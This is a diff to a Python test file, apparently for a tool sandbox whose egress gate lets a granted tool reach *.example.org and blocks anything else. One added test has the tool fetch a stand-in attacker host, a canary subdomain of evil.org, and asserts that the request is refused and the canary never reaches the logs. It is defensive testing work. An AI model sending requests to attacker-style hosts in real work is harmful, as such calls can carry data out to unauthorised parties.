@@ -11,13 +11,15 @@ from django.urls import reverse
 from evidence import services as evidence
 from evidence.kinds import Kind
 from evidence.models import Fact, Snapshot
-from invocations import preflight
+from invocations import execution, preflight
 from invocations.reaching import MAX_BYTES, why_told
 from invocations.sandbox.base import Connection, Outcome, Status
 from invocations.sandbox.docker import DockerSandbox
 from invocations.sandbox.egress import Gate
 from invocations.sandbox.egress.whys import Why
+from tests.boxes import docker_sandbox
 from tests.calls import assert_problem, row_of
+from tests.egress.world import PUBLIC, Names, origin, plain
 from tests.in_force import permit, put_in_force
 from toolhub.kernel.canonical import digest
 
@@ -133,3 +135,29 @@ def test_what_no_gate_can_enforce_is_refused_before_the_call_with_what_to_do(
 
     assert body["error"]["details"]["missing"] == ["net:https://api.example.org:443 GET"]
     assert "allow all methods of the host" in body["error"]["remedy"]
+
+
+def test_a_tool_gets_where_it_was_granted_to_go_and_nowhere_else(
+    caller: Caller, enable: Callable[..., Tool], grant: Callable[..., Any], bell: Bell, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    names = Names()
+    names.say("api.example.org", [PUBLIC])
+    sandbox = docker_sandbox(gate=Gate([f"{PUBLIC}/32"], resolve=names))
+    for module in (execution, preflight):
+        monkeypatch.setattr(module, "current_sandbox", lambda: sandbox)
+    with origin() as server:
+        put_in_force(permit())
+        enable("fetches", side_effect="Network", capabilities={"net": [plain("*.example.org", server.port)]})
+        grant()
+        reached = caller.invoke("sample.tools.fetches", {"text": f"http://api.example.org:{server.port}/"})
+        refused = caller.invoke("sample.tools.fetches", {"text": f"http://{CANARY}.evil.org/"})
+    sandbox.close()
+
+    assert reached.json()["data"] == {"text": "hello"}
+    (connection,) = end_of(row_of(reached))["connections"]
+    assert (connection["host"], connection["port"], connection["allowed"]) == ("*.example.org", server.port, True)
+    body = assert_problem(refused, 403, "SANDBOX.CAPABILITY_BLOCKED")
+    assert body["error"]["details"] == {"capability": "net", "attempts": [f"net:{CANARY}.evil.org:80"]}
+    end = end_of(row_of(refused))
+    assert (end["blocked"], end["connections_elsewhere"]) == (["net"], 1)
+    assert CANARY not in json.dumps(end)
